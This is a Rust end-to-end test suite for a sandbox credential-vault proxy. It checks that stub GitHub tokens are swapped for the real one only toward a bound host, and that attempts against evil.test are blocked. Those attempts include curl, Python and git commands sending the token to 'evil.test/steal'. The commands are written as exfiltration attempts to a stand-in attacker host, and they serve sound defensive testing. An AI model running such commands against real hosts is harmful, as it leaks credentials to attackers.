//! End to end: a real brain (`--backend docker`, embedded vault proxy) provisioning real
//! sandboxes that ask for `GITHUB_TOKEN`, against a local HTTPS upstream that plays
//! `api.github.test` (bound) and `evil.test` (not bound). Everything runs on this machine:
//! the proxy resolves both names to 127.0.0.1 (`network.resolve`, `allow_private`) and trusts
//! the test CA (`upstream_roots`).
//!
//! Skips (printing why) when no engine answers or the image is missing, unless
//! `AIRLOCK_REQUIRE_DOCKER=1`. Sandboxes are removed by label when the test ends.

use std::process::Command;

use airlock_tests::upstream::Upstream;
use airlock_tests::vault::{DockerCleanup as Cleanup, brain_options, write_vault_config};
use airlock_tests::{BrainProcess, StatusCode};
use base64::Engine as _;
use serde_json::json;

/// `ghp_` + 36 characters, like a GitHub token.
const REAL_TOKEN: &str = "ghp_REALsecretVALUE0123456789abcdefghij";

fn docker_ready() -> bool {
    airlock_tests::vault::docker_ready("vault e2e")
}

// === brain helpers ===

async fn provision(brain: &BrainProcess, credentials: &[&str]) -> (String, Cleanup) {
    let (status, v) = brain
        .post_json("/v1/sandboxes", &json!({"credentials": credentials}))
        .await;
    assert_eq!(
        status,
        StatusCode::CREATED,
        "provision: {v}\n{}",
        brain.log()
    );
    let id = v["id"].as_str().expect("sandbox id").to_string();
    assert_eq!(v["credentials"], json!(credentials), "{v}");
    (id.clone(), Cleanup(id))
}

/// Runs `command` in the sandbox; returns (exit code, stdout, stderr).
async fn sh(brain: &BrainProcess, id: &str, command: &str) -> (i64, String, String) {
    let (status, v) = brain
        .post_json(
            &format!("/v1/sandboxes/{id}/exec"),
            &json!({"command": command, "timeout_s": 60}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "exec {command:?}: {v}");
    (
        v["exit_code"].as_i64().unwrap_or(-1),
        v["stdout"].as_str().unwrap_or("").to_string(),
        v["stderr"].as_str().unwrap_or("").to_string(),
    )
}

fn proxy_addr_from_log(log: &str) -> String {
    airlock_tests::vault::proxy_addr_from_log(log)
        .unwrap_or_else(|| panic!("no proxy address in the brain log:\n{log}"))
}

/// The id of sandbox `id`'s running container.
fn sandbox_container(id: &str) -> String {
    let out = std::process::Command::new("docker")
        .args([
            "ps",
            "-q",
            "--filter",
            &format!("label=airlock.sandbox={id}"),
        ])
        .output()
        .expect("docker ps");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// The IPv4 addresses of the container of sandbox `id` on every network it is attached to.
fn b_container_addresses(id: &str) -> Vec<String> {
    let container = sandbox_container(id);
    let out = std::process::Command::new("docker")
        .args([
            "inspect",
            "-f",
            "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}",
            &container,
        ])
        .output()
        .expect("docker inspect");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .map(str::to_string)
        .collect()
}

/// The network mode docker gave sandbox `id`'s container (`none`, or its network's name).
fn container_network_mode(id: &str) -> String {
    let container = sandbox_container(id);
    let out = std::process::Command::new("docker")
        .args(["inspect", "-f", "{{.HostConfig.NetworkMode}}", &container])
        .output()
        .expect("docker inspect");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

fn host_ipv4s() -> Vec<String> {
    let out = Command::new("hostname").arg("-I").output();
    let mut ips: Vec<String> = out
        .map(|o| String::from_utf8_lossy(&o.stdout).to_string())
        .unwrap_or_default()
        .split_whitespace()
        .filter(|ip| ip.parse::<std::net::Ipv4Addr>().is_ok())
        .map(str::to_string)
        .collect();
    ips.push("127.0.0.1".into());
    ips
}

struct Setup {
    brain: BrainProcess,
    upstream: Upstream,
    port: u16,
    _dir: tempfile::TempDir,
}

/// The upstream, a vault config naming it, and a docker brain with the embedded proxy.
async fn setup() -> Setup {
    let upstream = Upstream::start(REAL_TOKEN).await;
    let port = upstream.port;
    let dir = tempfile::tempdir().unwrap();
    let vault_yaml = write_vault_config(dir.path(), &upstream);
    let brain = BrainProcess::start(brain_options("docker", &vault_yaml, REAL_TOKEN)).await;
    Setup {
        brain,
        upstream,
        port,
        _dir: dir,
    }
}

#[tokio::test]
async fn vault_swaps_stubs_only_toward_bound_hosts_from_real_docker_sandboxes() {
    if !docker_ready() {
        return;
    }
    let Setup {
        brain,
        upstream,
        port,
        _dir,
    } = setup().await;
    let proxy_addr = proxy_addr_from_log(&brain.log());
    let brain_port = brain.base_url.rsplit(':').next().unwrap().to_string();
    let proxy_port = proxy_addr.rsplit(':').next().unwrap().to_string();

    let (a, _ca) = provision(&brain, &["GITHUB_TOKEN"]).await;
    let (b, _cb) = provision(&brain, &["GITHUB_TOKEN"]).await;

    // 1. The env holds a stub: same prefix and length as the real token, not the real one.
    let (_, stub_a, _) = sh(&brain, &a, "printf %s \"$GITHUB_TOKEN\"").await;
    let (_, stub_b, _) = sh(&brain, &b, "printf %s \"$GITHUB_TOKEN\"").await;
    for stub in [&stub_a, &stub_b] {
        assert!(
            stub.starts_with("ghp_") && stub.len() == REAL_TOKEN.len(),
            "{stub:?}"
        );
        assert_ne!(stub, REAL_TOKEN);
    }
    assert_ne!(stub_a, stub_b);
    let (_, env, _) = sh(&brain, &a, "env").await;
    assert!(!env.contains(REAL_TOKEN), "real token in the sandbox env");
    assert!(
        env.contains(&format!("HTTPS_PROXY=http://{a}:")) && env.contains("@127.0.0.1:3128"),
        "{env}"
    );
    for key in [
        "SSL_CERT_FILE",
        "REQUESTS_CA_BUNDLE",
        "NODE_EXTRA_CA_CERTS",
        "CURL_CA_BUNDLE",
        "GIT_SSL_CAINFO",
        "PIP_CERT",
    ] {
        assert!(
            env.contains(&format!("{key}=/etc/airlock/ca.pem")),
            "{key}: {env}"
        );
    }
    let (code, out, _) = sh(
        &brain,
        &a,
        "cmp /etc/airlock/ca.pem /etc/ssl/certs/ca-certificates.crt && grep -c BEGIN /etc/airlock/ca.pem",
    )
    .await;
    assert_eq!(
        (code, out.trim()),
        (0, "1"),
        "the proxy CA is the trust store"
    );

    // 2. curl to the bound host: the upstream gets the real token.
    let (code, out, err) = sh(
        &brain,
        &a,
        &format!(
            "curl -sS -m 20 https://api.github.test:{port}/user -H \"Authorization: Bearer $GITHUB_TOKEN\""
        ),
    )
    .await;
    assert_eq!(
        code,
        0,
        "curl to the bound host: {out} {err}\n{}",
        brain.log()
    );
    assert_eq!(out.trim(), "ok /user");
    let seen = upstream.with_path("/user");
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(
        seen[0].authorization.as_deref(),
        Some(format!("Bearer {REAL_TOKEN}").as_str())
    );
    assert!(seen[0].host.starts_with("api.github.test"), "{seen:?}");

    // 3. The same stub toward an unbound host: 403, and the upstream sees nothing.
    let (_, out, _) = sh(
        &brain,
        &a,
        &format!(
            "curl -sS -m 20 -w '\\n%{{http_code}}' https://evil.test:{port}/steal -H \"Authorization: Bearer $GITHUB_TOKEN\""
        ),
    )
    .await;
    assert!(out.trim_end().ends_with("403"), "{out}");
    assert!(out.contains("credential_not_allowed_for_host"), "{out}");
    assert!(upstream.with_path("/steal").is_empty());

    // 4. python urllib, both ways.
    let py = format!(
        r#"python3 - <<'EOF'
import os, urllib.request, urllib.error
tok = os.environ["GITHUB_TOKEN"]
for host, path in (("api.github.test", "/py"), ("evil.test", "/py-steal")):
    req = urllib.request.Request("https://%s:{port}%s" % (host, path), headers={{"Authorization": "Bearer " + tok}})
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            print(host, r.status, r.read().decode().strip())
    except urllib.error.HTTPError as e:
        print(host, e.code, e.read().decode().strip())
EOF"#
    );
    let (code, out, err) = sh(&brain, &a, &py).await;
    assert_eq!(code, 0, "{out} {err}");
    assert!(out.contains("api.github.test 200 ok /py"), "{out}");
    assert!(
        out.contains("evil.test 403") && out.contains("credential_not_allowed_for_host"),
        "{out}"
    );
    let seen = upstream.with_path("/py");
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(
        seen[0].authorization.as_deref(),
        Some(format!("Bearer {REAL_TOKEN}").as_str())
    );

    // 5. git ls-remote with the stub in the URL: the real token arrives inside Basic.
    let (code, out, err) = sh(
        &brain,
        &a,
        &format!(
            "GIT_TERMINAL_PROMPT=0 timeout 30 git ls-remote https://x-access-token:$GITHUB_TOKEN@api.github.test:{port}/o/r.git"
        ),
    )
    .await;
    eprintln!("git ls-remote: exit {code}\n{out}\n{err}");
    let expected = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{REAL_TOKEN}"))
    );
    let git = upstream.with_path("/o/r.git/info/refs");
    assert!(
        git.iter()
            .any(|s| s.authorization.as_deref() == Some(expected.as_str())),
        "git's Basic credentials were not swapped: {git:?}"
    );
    assert_eq!(code, 0, "git ls-remote: {out} {err}");
    // … and toward the unbound host it is blocked before the upstream.
    let (code, _, err) = sh(
        &brain,
        &a,
        &format!(
            "GIT_TERMINAL_PROMPT=0 timeout 30 git ls-remote https://x-access-token:$GITHUB_TOKEN@evil.test:{port}/o/r.git"
        ),
    )
    .await;
    assert_ne!(code, 0, "{err}");
    assert!(
        upstream
            .seen()
            .iter()
            .filter(|s| s.host.starts_with("evil.test"))
            .all(|s| s.authorization.is_none()),
        "a credential reached evil.test: {:?}",
        upstream.seen()
    );

    // 6. Another sandbox's stub, used from A: blocked, nothing reaches the upstream.
    let (_, out, _) = sh(
        &brain,
        &a,
        &format!(
            "curl -sS -m 20 -w '\\n%{{http_code}}' https://api.github.test:{port}/cross -H 'Authorization: Bearer {stub_b}'"
        ),
    )
    .await;
    assert!(
        out.trim_end().ends_with("403") && out.contains("credential_not_allowed_for_host"),
        "{out}"
    );
    assert!(upstream.with_path("/cross").is_empty());

    // 7. A response echoing the real token reaches the sandbox with the stub instead.
    let (code, out, err) = sh(
        &brain,
        &a,
        &format!(
            "curl -sS -m 20 https://api.github.test:{port}/echo-token -H \"Authorization: Bearer $GITHUB_TOKEN\""
        ),
    )
    .await;
    assert_eq!(code, 0, "{err}");
    assert!(
        !out.contains(REAL_TOKEN),
        "the real token reached the sandbox: {out}"
    );
    assert!(out.contains(&stub_a), "{out}");

    // 8. No way out but the proxy: direct connections to every host address fail, and the
    //    brain API, the proxy and the upstream ports are unreachable directly.
    let mut targets = Vec::new();
    for ip in host_ipv4s() {
        for p in [&brain_port, &proxy_port, &port.to_string()] {
            targets.push(format!("{ip}:{p}"));
        }
    }
    for t in &targets {
        let (code, out, _) = sh(
            &brain,
            &a,
            &format!("curl --noproxy '*' -sS -m 5 -o /dev/null -w '%{{http_code}}' http://{t}/"),
        )
        .await;
        assert_ne!(code, 0, "sandbox reached {t} directly: {out}");
    }
    let (code, _, _) = sh(
        &brain,
        &a,
        &format!("curl --noproxy '*' -sS -m 5 https://api.github.test:{port}/direct"),
    )
    .await;
    assert_ne!(code, 0);
    // Through the proxy, the brain API is refused too (no stub: egress default deny).
    let (_, out, _) = sh(
        &brain,
        &a,
        &format!(
            "curl -sS -m 10 -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{brain_port}/healthz"
        ),
    )
    .await;
    assert_ne!(
        out.trim(),
        "200",
        "the brain API is reachable through the proxy"
    );
    assert!(upstream.with_path("/direct").is_empty());
    // Sandbox B is unreachable from A: neither directly (its own network) nor through the
    // proxy (a private address). Every address docker gave B's container is tried, on the
    // egress forwarder's port and on a plain port.
    let b_addrs = b_container_addresses(&b);
    if b_addrs.is_empty() {
        // `sandbox.docker.network: none` (the default with the embedded proxy): B has no
        // address to dial, and A has nothing but loopback.
        for sandbox in [&a, &b] {
            assert_eq!(
                container_network_mode(sandbox),
                "none",
                "sandbox {sandbox} has no address but a network"
            );
        }
        let (_, out, _) = sh(&brain, &a, "cat /proc/net/dev").await;
        let interfaces: Vec<&str> = out
            .lines()
            .filter_map(|l| l.split_once(':').map(|(name, _)| name.trim()))
            .collect();
        assert_eq!(interfaces, ["lo"], "{out}");
    }
    for ip in &b_addrs {
        for (how, flag) in [("directly", "--noproxy '*'"), ("through the proxy", "")] {
            for p in ["3128", "80"] {
                let (_, out, _) = sh(
                    &brain,
                    &a,
                    &format!(
                        "curl {flag} -sS -m 5 -o /dev/null -w '%{{http_code}}' http://{ip}:{p}/"
                    ),
                )
                .await;
                let code = out.trim();
                assert!(
                    code == "000" || code.starts_with('4'),
                    "sandbox A reached sandbox B at {ip}:{p} {how}: {out}"
                );
            }
        }
    }

    // 9. The audit log, through the brain: a swap and a block for A, no secret or stub.
    let (status, records) = brain
        .get_json(&format!("/v1/audit/egress?sandbox={a}"))
        .await;
    assert_eq!(status, StatusCode::OK, "{records}");
    let list = records.as_array().expect("a list");
    assert!(list.iter().all(|r| r["sandbox"] == a.as_str()), "{records}");
    let has = |event: &str, decision: &str| {
        list.iter().any(|r| {
            r["event"] == event && r["decision"] == decision && r["credential"] == "GITHUB_TOKEN"
        })
    };
    assert!(has("swap", "allow"), "no swap record: {records}");
    assert!(has("block", "deny"), "no block record: {records}");
    let text = records.to_string();
    for secret in [REAL_TOKEN, &stub_a, &stub_b] {
        assert!(
            !text.contains(secret),
            "a secret or stub in the audit response"
        );
    }
    let (status, denied) = brain
        .get_json(&format!(
            "/v1/audit/egress?sandbox={a}&decision=deny&credential=GITHUB_TOKEN"
        ))
        .await;
    assert_eq!(status, StatusCode::OK);
    let denied = denied.as_array().unwrap();
    assert!(!denied.is_empty() && denied.iter().all(|r| r["decision"] == "deny"));

    // 10. DELETE revokes: A's token, presented through B's still-open forwarder, is dead.
    let (_, proxy_a, _) = sh(&brain, &a, "printf %s \"$HTTPS_PROXY\"").await;
    let via_a = |path: &str| {
        format!(
            "curl -sS -m 20 -o /dev/null -w '%{{http_code}}' -x '{proxy_a}' https://api.github.test:{port}{path}"
        )
    };
    let (code, out, err) = sh(&brain, &b, &via_a("/before-revoke")).await;
    assert_eq!((code, out.as_str()), (0, "200"), "{err}");
    let (status, v) = brain.delete(&format!("/v1/sandboxes/{a}")).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    let (code, _, err) = sh(&brain, &b, &via_a("/after-revoke")).await;
    assert_ne!(code, 0, "the revoked token still works");
    assert!(err.contains("407"), "{err}");
    assert!(upstream.with_path("/after-revoke").is_empty());
    // B is unaffected.
    let (code, out, _) = sh(
        &brain,
        &b,
        &format!(
            "curl -sS -m 20 https://api.github.test:{port}/b -H \"Authorization: Bearer $GITHUB_TOKEN\""
        ),
    )
    .await;
    assert_eq!((code, out.trim()), (0, "ok /b"));
    let (status, v) = brain.delete(&format!("/v1/sandboxes/{b}")).await;
    assert_eq!(status, StatusCode::OK, "{v}");

    // Unknown credentials are a client error.
    let (status, v) = brain
        .post_json("/v1/sandboxes", &json!({"credentials": ["NOPE"]}))
        .await;
    assert_eq!(
        (status, v["error"]["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("unknown_credential")),
        "{v}"
    );
}

#[tokio::test]
async fn grants_survive_a_brain_crash_and_are_revoked_after_it() {
    if !docker_ready() {
        return;
    }
    let Setup {
        mut brain,
        upstream,
        port,
        _dir,
    } = setup().await;
    let (a, _ca) = provision(&brain, &["GITHUB_TOKEN"]).await;
    let call = |path: &str| {
        format!(
            "curl -sS -m 20 https://api.github.test:{port}{path} -H \"Authorization: Bearer $GITHUB_TOKEN\""
        )
    };
    let (code, out, err) = sh(&brain, &a, &call("/before-crash")).await;
    assert_eq!((code, out.trim()), (0, "ok /before-crash"), "{err}");

    // A crash: the embedded proxy and its in-memory grants die with the brain.
    brain.kill9();
    brain.restart().await;
    let (status, v) = brain.get_json(&format!("/v1/sandboxes/{a}")).await;
    assert_eq!(
        (status, v["status"].as_str()),
        (StatusCode::OK, Some("running")),
        "{v}\n{}",
        brain.log()
    );
    // The same env (token, stub) still works: the grant was re-registered.
    let (code, out, err) = sh(&brain, &a, &call("/after-crash")).await;
    assert_eq!(
        (code, out.trim()),
        (0, "ok /after-crash"),
        "{err}\n{}",
        brain.log()
    );
    let seen = upstream.with_path("/after-crash");
    assert_eq!(
        seen.first().and_then(|s| s.authorization.clone()),
        Some(format!("Bearer {REAL_TOKEN}"))
    );

    let (status, v) = brain.delete(&format!("/v1/sandboxes/{a}")).await;
    assert_eq!(status, StatusCode::OK, "{v}");
    let (status, records) = brain
        .get_json(&format!("/v1/audit/egress?sandbox={a}&decision=allow"))
        .await;
    assert_eq!(status, StatusCode::OK, "{records}");
    let swaps = records
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["event"] == "swap")
        .count();
    assert!(swaps >= 2, "swaps before and after the crash: {records}");
}
